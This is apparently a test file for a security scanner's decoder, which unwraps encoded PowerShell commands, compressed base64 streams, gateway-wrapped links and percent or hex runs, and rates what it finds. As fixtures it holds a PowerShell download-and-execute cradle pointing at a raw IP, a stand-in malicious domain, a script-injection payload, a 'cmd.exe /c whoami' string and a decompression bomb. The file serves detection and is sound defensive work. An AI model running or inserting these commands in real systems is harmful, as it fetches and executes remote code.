// What hides in a text comes to light, within bounds.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import { hostileTexts } from '../../test/support/hostile-texts.ts'
import { decodeHidden } from './decode.ts'
import { findingsOfDecoded } from './findings-of-decoded.ts'

const texts = (text: string) => decodeHidden(text).decoded.map((each) => `${each.how}: ${each.text}`)
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://193.142.146.35/a.ps1')"
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

test('an encoded command is read whichever way its option is shortened', () => {
  for (const option of ['-e', '-en', '-enc', '-EncodedCommand', '/enc', '-ec', '-e^nc', '–EnCoDeD'])
    assert.deepEqual(texts(`powershell.exe -nop ${option} ${utf16(cradle)}`), [`powershell: ${cradle}`], option)
  assert.deepEqual(texts(JSON.stringify({ cmd: `powershell -enc "${utf16(cradle)}"` })), [`powershell: ${cradle}`])
})

test('packed streams inside a command are opened, round by round', () => {
  const packed = gzipSync(Buffer.from(cradle)).toString('base64')
  const outer = `$s=[Convert]::FromBase64String('${packed}')`
  assert.deepEqual(texts(`powershell -enc ${utf16(outer)}`), [`powershell: ${outer}`, `base64: ${cradle}`])
  assert.deepEqual(texts(deflateRawSync(Buffer.from(cradle)).toString('base64')), [`base64: ${cradle}`])
})

test('a packed bomb stays closed', () => {
  assert.deepEqual(texts(gzipSync(Buffer.alloc(50 * 1024 * 1024, 65)).toString('base64')), [])
})

test('links wrapped by gateways and redirects are unwrapped', () => {
  const inner = 'https://evil-updates.top/a?b=c'
  const wrapped = [
    `https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent(inner)}&data=05%7C01`,
    `https://urldefense.proofpoint.com/v1/url?u=${encodeURIComponent(inner)}&k=x`,
    'https://urldefense.proofpoint.com/v2/url?u=https-3A__evil-2Dupdates.top_a-3Fb-3Dc&d=x',
    'https://urldefense.com/v3/__https://evil-updates.top/a*b=c__;Pw!!abc$',
    `https://linkprotect.cudasvc.com/url?a=${encodeURIComponent(inner)}&c=E`,
    `https://www.google.com/url?sa=t&url=${encodeURIComponent(inner)}`,
    `https://www.google.com/url?q=${encodeURIComponent(inner)}`,
    `https://eu.protection.sophos.com/?d=evil-updates.top&u=${Buffer.from(inner).toString('base64')}`,
  ]
  for (const link of wrapped) assert.ok(texts(`see ${link} now`).includes(`url-wrapped: ${inner}`), link)
  assert.ok(
    texts('https://protect-eu.mimecast.com/s/abc?domain=evil-updates.top').includes(
      'url-wrapped: http://evil-updates.top/',
    ),
  )
})

test('percent and hexadecimal runs are read, hashes and pictures are not', () => {
  assert.deepEqual(texts('q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E'), ['percent: q=<script>alert(1)</script>'])
  assert.deepEqual(texts('\\x63\\x61\\x6c\\x63\\x2e\\x65\\x78\\x65'), ['hex: calc.exe'])
  assert.deepEqual(texts('0x636d642e657865202f632077686f616d69'), ['hex: cmd.exe /c whoami'])
  assert.deepEqual(texts('56af4bde70a47ae7d0f1ebb30e45ed336165d5c9ec00ba9a92311e33a4256d74'), [])
  assert.deepEqual(texts('TheQuickBrownFoxJumpsOverTheLazyDogAgainAndAgain and-some-other-long-identifier-name'), [])
})

test('a hidden download weighs on its address, a wrapped link is only told', () => {
  const [finding] = findingsOfDecoded(decodeHidden(`powershell -enc ${utf16(cradle)}`))
  assert.deepEqual(finding?.observable, { kind: 'url', value: 'http://193.142.146.35/a.ps1' })
  assert.equal(finding?.assessment, 'suspicious')
  assert.equal(finding?.pointer, '/decoded/0/text')
  const [link] = findingsOfDecoded(decodeHidden('https://www.google.com/url?q=https%3A%2F%2Fevil-updates.top%2F'))
  assert.equal(link?.assessment, 'context')
  const [plain] = findingsOfDecoded(decodeHidden(`powershell -enc ${utf16('Get-Process | Sort-Object CPU')}`))
  assert.deepEqual([plain?.observable.value, plain?.assessment], ['powershell.exe', 'context'])
})

test('at most fifty results are kept, each of bounded length', () => {
  const many = Array.from({ length: 80 }, (_, index) =>
    Buffer.from(`this is hidden text ${index}`).toString('base64'),
  ).join(' ')
  assert.equal(decodeHidden(many).decoded.length, 50)
  const [long] = decodeHidden(Buffer.from('long text '.repeat(20_000)).toString('base64')).decoded
  assert.equal(long?.text.length, 64 * 1024)
})

test('hostile texts come to an end', { timeout: 120_000 }, () => {
  for (const text of Object.values(hostileTexts())) findingsOfDecoded(decodeHidden(text))
})
